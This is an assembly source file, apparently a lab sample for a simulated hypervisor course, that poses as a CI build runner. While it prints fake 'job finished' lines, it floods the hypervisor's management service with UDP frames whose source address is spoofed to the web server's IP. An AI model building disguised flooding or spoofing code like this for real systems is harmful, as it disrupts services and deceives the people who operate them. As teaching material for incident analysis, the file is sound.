# ci.S - a tenant's build runner that was broken into: lesson 11's incident.
#
# It prints what a build runner prints (a banner, then a line per finished
# job), and behind that it floods the hypervisor's management service
# (10.0.0.1, UDP 6230) with requests, one frame after another, as lesson 8's
# storm does. The frames lie about where they come from: their IPv4 source is
# 10.0.0.11, the web server's address, not the runner's own (10.0.0.12). The
# switch's port cannot be lied to: the frames come in by the runner's port,
# with the runner's own MAC (02:00:00:00:00:02), and the hypervisor records
# every NET send with the VM that made it.
#
# The frame is built once, here, as bytes: Ethernet II to the management
# interface's MAC, IPv4 with its header checksum, UDP with its checksum, the
# payload "LIST" (a command without a session token, which the service refuses
# with "ERR not logged in", sent to the address the frame claims: the web
# server gets the answers to requests it never sent). tests/guests checks that
# it parses, and what it claims.

.include "lib/machine.S"    # UART_...
.include "lib/sbi.S"        # EID_NET, NET_SEND

.equ FLOOD_GAP,   25        # spins between frames, as the monitor's flood (about 60 instructions a
                            # frame: sixteen for every four the service handles)
.equ JOB_FRAMES,  20000     # frames between two "job done" lines
.equ FRAME_LEN,   46        # the frame below: 14 Ethernet + 20 IPv4 + 8 UDP + 4 payload bytes

.text
.globl _start
_start:
    la   a0, banner
    call puts
    li   s1, 0              # s1 = jobs done
flood:
    li   s0, JOB_FRAMES     # s0 = frames left in this job
1:  la   a0, frame          # NET send(gpa, len)
    li   a1, FRAME_LEN
    li   a7, EID_NET
    li   a6, NET_SEND
    ecall
    li   t0, FLOOD_GAP
2:  addi t0, t0, -1
    bnez t0, 2b
    addi s0, s0, -1
    bnez s0, 1b
    addi s1, s1, 1          # a job "done": a line that looks like work
    la   a0, job_done
    call puts
    j    flood

.include "lib/uart.S"       # puts

.data
banner:   .asciz "ci: build runner ready, watching the main branch\n"
job_done: .asciz "ci: job finished, artifacts uploaded\n"

    .balign 4
# 10.0.0.11 > 10.0.0.1 UDP 51515 > 6230 len 4 "LIST", from MAC 02:00:00:00:00:02
frame:
    .byte 0x02, 0x00, 0x00, 0x00, 0x00, 0xfe, 0x02, 0x00, 0x00, 0x00, 0x00, 0x02  # dst MAC, src MAC
    .byte 0x08, 0x00                                                              # EtherType IPv4
    .byte 0x45, 0x00, 0x00, 0x20, 0x00, 0x00, 0x40, 0x00, 0x40, 0x11, 0x26, 0xc2  # IPv4: len 32, DF,
    .byte 0x0a, 0x00, 0x00, 0x0b, 0x0a, 0x00, 0x00, 0x01                          # TTL 64, UDP; src, dst
    .byte 0xc9, 0x3b, 0x18, 0x56, 0x00, 0x0c, 0x6a, 0x9b                          # UDP 51515 > 6230
    .byte 0x4c, 0x49, 0x53, 0x54                                                  # "LIST"
